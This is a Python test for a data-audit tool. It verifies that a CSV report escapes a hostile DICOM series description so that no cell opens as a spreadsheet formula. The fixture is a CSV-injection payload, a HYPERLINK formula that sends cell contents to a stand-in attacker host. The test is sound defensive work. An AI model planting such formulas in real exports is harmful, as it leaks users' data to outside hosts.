"""A report opened in a spreadsheet runs nothing, whatever the scanner wrote (OWASP).

mapping-audit reports a label mismatch whose expected value is a hostile Series
Description; the shared report writer shows it as text.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

from gears import runtime
from tests.support.dicomgen import SeriesSpec
from tests.support.fwlite_server import FwliteServer
from tests.support.gear_root import make_gear_root
from tests.support.seed import seed_series

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_hostile_series_description_is_text_in_the_audit_report(
    tmp_path: Path, fwlite: FwliteServer, fw: Any
) -> None:
    spec = SeriesSpec(series_description=HOSTILE, patient_id="fw://unknown/Unsorted/s1")
    seed_series(fw, tmp_path, spec)
    (session,) = fw.sessions()
    (acquisition,) = fw.get_session_acquisitions(session.id)
    fw.modify_acquisition(acquisition.id, {"label": "renamed"})
    root = make_gear_root(
        tmp_path / "gear",
        config={},
        destination={"type": "session", "id": session.id},
        api_key=fwlite.api_key,
    )
    assert runtime.main(["run", "mapping-audit", "--root", str(root)]) == 0
    [report] = (root / "output").glob("mapping-audit_report-*.csv")
    with report.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    label = [r for r in rows if r["Check"] == "acquisition-label"]
    assert [(r["Expected"], r["Actual"]) for r in label] == [("'" + HOSTILE, "renamed")]
    text = report.read_text()
    assert ',"=' not in text and not text.startswith("=")  # no cell starts a formula
